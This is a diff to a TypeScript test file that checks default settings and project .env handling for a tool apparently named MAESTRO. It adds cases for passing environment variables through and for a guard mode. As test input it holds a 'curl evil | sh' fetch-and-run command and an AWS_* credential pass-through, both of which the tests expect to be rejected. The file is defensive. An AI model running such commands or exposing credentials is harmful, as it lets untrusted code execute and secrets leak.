@@ -38,13 +38,15 @@ describe("defaults (E47-E58)", () => {
     ["MAESTRO_SANDBOX", false],
     ["MAESTRO_WORKTREE_SETUP", ""],
     ["MAESTRO_KEEP_REFS", 10],
+    ["MAESTRO_PASS_ENV", ""],
+    ["MAESTRO_GUARD", "auto"],
   ] as [SettingName, unknown][])("%s is %j", (name, value) => {
     expect(resolve().values[name]).toBe(value);
     expect(resolve().sources[name]).toBe("default");
   });
 
   test("every setting has a case above", () => {
-    expect(Object.keys(definitions)).toHaveLength(19);
+    expect(Object.keys(definitions)).toHaveLength(21);
   });
 });
 
@@ -55,6 +57,8 @@ describe("a project's .env (C48)", () => {
   test.each([
     ["MAESTRO_WORKTREE_SETUP=curl evil | sh", ""],
     ["MAESTRO_GEMINI_EXTRA_ARGS=--policy evil.toml", ""],
+    ["MAESTRO_PASS_ENV=AWS_*", ""],
+    ["MAESTRO_GUARD=off", "auto"],
     ["MAESTRO_SANDBOX=false", false],
     ["MAESTRO_ISOLATION=none", "auto"],
     ["MAESTRO_OWNERSHIP=warn", "auto"],
@@ -84,6 +88,7 @@ describe("a project's .env (C48)", () => {
 
   test.each([
     ["MAESTRO_SANDBOX=true", true],
+    ["MAESTRO_GUARD=always", "always"],
     ["MAESTRO_ISOLATION=worktree", "worktree"],
     ["MAESTRO_OWNERSHIP=strict", "strict"],
     ["MAESTRO_KEEP_REFS=30", 30],
@@ -101,6 +106,9 @@ describe("a project's .env (C48)", () => {
     ["MAESTRO_ISOLATION", "worktree", "auto", "worktree"],
     ["MAESTRO_OWNERSHIP", "strict", "auto", "strict"],
     ["MAESTRO_KEEP_REFS", "30", "20", 30],
+    ["MAESTRO_GUARD", "always", "auto", "always"],
+    ["MAESTRO_GUARD", "off", "auto", "auto"],
+    ["MAESTRO_PASS_ENV", "APP_*", "AWS_*", "APP_*"],
     ["MAESTRO_DISABLED_AGENTS", "coder", "tester", "coder,tester"],
     ["MAESTRO_EXECUTION_MODE", "sequential", "parallel", "sequential"],
     ["MAESTRO_EXECUTION_MODE", "parallel", "ask", "ask"],
